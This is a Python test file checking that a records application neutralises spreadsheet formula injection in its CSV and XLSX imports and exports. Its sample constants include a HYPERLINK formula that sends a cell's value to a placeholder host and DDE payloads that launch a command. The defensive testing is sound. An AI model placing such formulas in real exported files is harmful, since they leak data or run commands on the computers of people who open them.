"""Issue 10, items 9-12: hostile cells in imports and exports (formulas, control characters, lookalikes)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from homecoming.errors import ImportFileError
from homecoming.io.intake import read_intake, write_intake
from homecoming.io.manifests import read_manifest, write_manifest
from homecoming.io.persons import read_persons, write_persons
from homecoming.io.tables import csv_safe, looks_like_formula, write_table

# synthetic data only
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)")


def xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for row in book.worksheets[0].iter_rows() for c in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_an_xlsx_export_holds_formula_like_text_as_text(value: str) -> None:
    out = io.BytesIO()
    write_table(["name", "count"], [[value, "-5"]], out, fmt="xlsx", sheet="t")
    cells = xlsx_cells(out.getvalue())
    assert (value, "s") in cells
    assert all(kind != "f" for _, kind in cells)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_csv_export_prefixes_formula_like_text_and_keeps_numbers(value: str) -> None:
    out = io.StringIO(newline="")
    write_table(["name", "count", "phone"], [[value, "-5", "+380 67 123 45 67"]], out, fmt="csv", sheet="t")
    record = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert record == ["'" + value, "-5", "+380 67 123 45 67"]


def test_csv_safe_follows_owasp() -> None:
    assert csv_safe("\tx") == "'\tx"
    assert csv_safe("\rx") == "'\rx"
    assert csv_safe("-1.5") == "-1.5"
    assert csv_safe("1e5") == "1e5"
    assert csv_safe("Шевченко") == "Шевченко"
    assert csv_safe(None) == ""
    assert not looks_like_formula("- see the letter")
    assert not looks_like_formula("-17")
    assert looks_like_formula("-A1")


def test_every_export_writes_formula_like_names_inertly(tmp_path: Path) -> None:
    person = {"family_name": HYPERLINK, "given_name": DDE}
    for fmt in ("csv", "xlsx"):
        out = io.BytesIO()
        write_persons([person], out, fmt=fmt)  # type: ignore[arg-type]
        check_inert(out.getvalue(), fmt)
        out = io.BytesIO()
        write_intake([{"bag_number": "B-1", "kind": "body", "place": HYPERLINK}], out, fmt=fmt)  # type: ignore[arg-type]
        check_inert(out.getvalue(), fmt)
        check_inert(write_manifest([{"category": "bodies", "claimed_name": DDE}], fmt=fmt), fmt)  # type: ignore[arg-type]


def check_inert(data: bytes, fmt: str) -> None:
    if fmt == "xlsx":
        cells = xlsx_cells(data)
        assert all(kind != "f" for _, kind in cells), cells
        assert any(isinstance(v, str) and v.startswith("=") for v, _ in cells)
    else:
        for record in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            assert not any(looks_like_formula(cell) for cell in record), record


def test_an_export_survives_control_characters_already_stored() -> None:
    out = io.BytesIO()
    write_table(["name"], [["a\x00b\x07c\x1bd"]], out, fmt="xlsx", sheet="t")
    assert xlsx_cells(out.getvalue())[1] == ("a\ufffdb\ufffdc\ufffdd", "s")
    text = io.StringIO(newline="")
    write_table(["name"], [["a\x00b"]], text, fmt="csv", sheet="t")
    assert "\x00" not in text.getvalue()


PERSONS_HEADER = "family_name,given_name,notes\n"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_person_list_with_a_formula_is_refused_naming_the_cell(tmp_path: Path, value: str) -> None:
    path = tmp_path / "list.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["family_name", "given_name"], ["Shevchenko", "Taras"], [value, "Ivan"]])
    with pytest.raises(ImportFileError) as caught:
        read_persons(path)
    [problem] = caught.value.problems
    assert (problem.row, problem.field) == (3, "family_name")
    assert problem.message == "starts like a spreadsheet formula"
    assert problem.value == value
    assert "remove the leading" in problem.hint


def test_intake_and_manifest_files_with_a_formula_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "intake.csv"
    path.write_text(f'bag_number,kind,place\nB-1,body,"{DDE}"\n', encoding="utf-8")
    with pytest.raises(ImportFileError) as caught:
        read_intake(path)
    assert [(p.row, p.field) for p in caught.value.problems] == [(2, "place")]
    data = f'category,claimed_name\nbodies,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'.encode()
    with pytest.raises(ImportFileError) as caught:
        read_manifest("m.csv", data)
    assert [(p.row, p.field, p.value) for p in caught.value.problems] == [(2, "claimed_name", HYPERLINK)]


def test_negative_numbers_and_signed_notes_still_import(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("family_name,given_name,notes\nShevchenko,Taras,- see the letter\n", encoding="utf-8")
    assert read_persons(path)[0].notes == "- see the letter"
